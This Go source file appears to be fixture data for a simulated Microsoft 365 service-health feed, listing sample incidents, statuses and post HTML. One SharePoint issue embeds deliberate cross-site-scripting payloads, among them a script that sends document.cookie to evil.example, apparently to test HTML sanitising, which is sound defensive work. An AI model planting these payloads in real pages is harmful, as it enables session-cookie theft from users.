package world

import (
	"fmt"
	"strings"
	"time"
)

// issueText is an issue as data: what it says, how long ago it started, and how long it lasted.
type issueText struct {
	id, service, title, feature, group, impact, class, status string
	ago, lasted                                               time.Duration // lasted 0: still open
	weight                                                    int           // share of the troubled customers
	extra                                                     string        // HTML of its own, after the first post
}

func (t issueText) over() bool { return t.lasted > 0 }

const hour = time.Hour

// issueTexts holds one issue for every serviceHealthStatus of api/facts.md 1.9.
var issueTexts = []issueText{
	{"EX912341", "Exchange", "Some users can't send or receive email through Exchange Online", "E-Mail and calendar access", "Networking Issues", "Users may be unable to send or receive email messages.", "incident", "serviceInterruption", 3 * hour, 0, 9, ""},
	{"TM907713", "microsoftteams", "Users may see delays in Microsoft Teams chat messages", "Chat", "Teams Components", "Chat messages may be delayed by up to ten minutes.", "incident", "serviceDegradation", 6 * hour, 0, 14, ""},
	{"SP898802", "SharePoint", "Users in some sites can't open documents in the browser", "Custom Solutions and Workflows", "SharePoint Features", "Documents opened in the browser may show an error; desktop apps work.", "incident", "restoringService", 9 * hour, 0, 8,
		`<p onmouseover="alert('x')">See <a href="javascript:alert(document.domain)">the workaround</a> and <a href="https://learn.microsoft.com/microsoft-365/enterprise/view-service-health">how to read this page</a>.</p><script>fetch("https://evil.example/?c="+document.cookie)</script><img src="x" onerror="alert(1)"><style>body{display:none}</style>`},
	{"MO915520", "OSDPPlatform", "Admins may see wrong usage reports in the Microsoft 365 admin center", "Administration", "Portal", "Usage reports may lag behind by two days.", "advisory", "investigating", 5 * hour, 0, 9, ""},
	{"IT889120", "Intune", "Devices may report a wrong compliance state", "Microsoft Intune", "Microsoft Intune", "Compliant devices may be shown as not compliant.", "advisory", "verifyingService", 26 * hour, 0, 6, ""},
	{"OD903377", "OneDriveForBusiness", "Some users' files sync slowly", "Sync Client", "OneDrive for Business Features", "Files may take longer than usual to sync.", "incident", "extendedRecovery", 50 * hour, 0, 6, ""},
	{"PB871234", "PowerBIcom", "Some scheduled refreshes fail with a time-out", "PowerBI.com", "PowerBI.com", "Scheduled refreshes of large models may fail.", "advisory", "investigationSuspended", 120 * hour, 0, 5, ""},
	{"DZ910101", "Microsoft365Defender", "Alert emails may arrive twice", "Microsoft Defender", "Microsoft Defender", "Admins may get two emails for one alert.", "advisory", "confirmed", 14 * hour, 0, 3, ""},
	{"CP914466", "Copilot", "Copilot answers may leave out recent emails", "Microsoft Copilot", "Microsoft Copilot", "Answers may not mention emails of the last hour.", "advisory", "reported", 2 * hour, 0, 3, ""},
	{"YA866001", "yammer", "Some posts show no like button", "Viva Engage Components", "Viva Engage", "The like button may be missing in the browser.", "advisory", "unknownFutureValue", 30 * hour, 0, 1, ""},
	{"EX905118", "Exchange", "Some users' searches in Outlook on the web returned nothing", "Web Access", "Sign-in", "Searches may have returned no results.", "incident", "serviceRestored", 20 * hour, 7 * hour, 0,
		`<h3>Root cause</h3><ul><li>A deployment <b>removed</b> a search index.</li><li>It was rebuilt &amp; verified.</li></ul><a href="http://insecure.example/kb">internal note</a>`},
	{"OP901900", "O365Client", "Word may close when a table is pasted", "Client Issues", "Office Client issues", "Word may close when a table from a browser is pasted.", "advisory", "falsePositive", 30 * hour, 9 * hour, 0, ""},
	{"SP880045", "SharePoint", "SharePoint Online search was slow", "Search", "SharePoint Features", "Search may have been slow.", "incident", "postIncidentReviewPublished", 9 * 24 * hour, 11 * hour, 0, ""},
	{"FM877000", "MicrosoftFlowM365", "Flows with approvals were delayed", "Service and web access issues", "Power Automate", "Approvals may have been delayed.", "incident", "resolved", 6 * 24 * hour, 5 * hour, 0, ""},
	{"MM899432", "MobileDeviceManagement", "Enrolment of Android devices failed", "Mobile Device Management", "Mobile Device Management", "Enrolment may have failed.", "advisory", "mitigated", 4 * 24 * hour, 20 * hour, 0, ""},
	{"MO895001", "OSDPPlatform", "A network provider's fault kept some users from signing in", "Networking", "Networking", "Users of one provider may have been unable to sign in.", "incident", "mitigatedExternal", 12 * 24 * hour, 3 * hour, 0, ""},
	{"MO884210", "OSDPPlatform", "A domain registrar's fault kept mail from some domains", "Networking", "Networking", "Mail of some domains may have bounced.", "incident", "resolvedExternal", 20 * 24 * hour, 8 * hour, 0, ""},
}

// oddPosts are posts of a shape that comes now and then, each the last of its issue: without a text, a picture with
// and without words for it, a table, a link that is not encrypted.
var oddPosts = map[string]string{
	"PB871234": "<p>&nbsp;</p>",
	"TM907713": `<p><img src="https://status.example/timeline.png" alt="Timeline: deployed at 08:10, reverted at 09:40"></p>`,
	"OD903377": `<table><thead><tr><th>Region</th><th>State</th></tr></thead><tbody><tr><td>Europe</td><td>Restored</td></tr><tr><td>Asia</td><td>In progress</td></tr></tbody></table>`,
	"MO915520": `<p>Details are on <a href="http://status.example/mo915520">the status page</a>.</p>`,
	"IT889120": `<img src="https://status.example/chart.png">`,
}

// issue dates the text. The day keeps the times put while the program runs.
func (t issueText) issue(day time.Time) Issue {
	service, _ := ServiceNamed(t.service)
	s := Issue{ID: t.id, Title: t.title, Service: service, Feature: t.feature, Group: t.group, Impact: t.impact,
		Class: t.class, Status: t.status, Resolved: t.over(), Start: day.Add(-t.ago).Add(10 * time.Minute)}
	s.Posts = []Post{{s.Start.Add(8 * time.Minute), "regular", postHTML(s, "We're investigating a potential issue and checking for impact to your organization. We'll provide an update within 30 minutes.") + t.extra}}
	s.Posts = append(s.Posts, Post{s.Start.Add(55 * time.Minute), "regular", postHTML(s, "Our review of service logs points to a recent change. We're reverting it in a part of the service to confirm that this helps.")})
	if odd, ok := oddPosts[t.id]; ok {
		s.Posts = append(s.Posts, Post{s.Start.Add(80 * time.Minute), "quick", odd})
	}
	s.Modified = s.Posts[len(s.Posts)-1].At.Add(970 * time.Millisecond)
	if t.over() {
		s.End = s.Start.Add(t.lasted)
		s.Modified = s.End.Add(21 * time.Minute)
		s.Posts = append(s.Posts, Post{s.Modified, "strategic", postHTML(s, "We've confirmed that impact is over. <b>Final status:</b> the change was reverted everywhere.")})
	}
	return s
}

// postHTML is one post in the manner of the service: lines of plain words with some markup.
func postHTML(s Issue, status string) string {
	return headHTML(s) + "<p><b>Current status:</b> " + status + "<br/><br/><b>Scope of impact:</b> Your organization is affected by this event.</p>"
}

// headHTML is what every post on an issue begins with.
func headHTML(s Issue) string {
	return fmt.Sprintf("<p><b>Title:</b> %s</p><p><b>User impact:</b> %s</p>", s.Title, s.Impact)
}

func hasPrefixFold(s, prefix string) bool {
	return len(s) >= len(prefix) && strings.EqualFold(s[:len(prefix)], prefix)
}
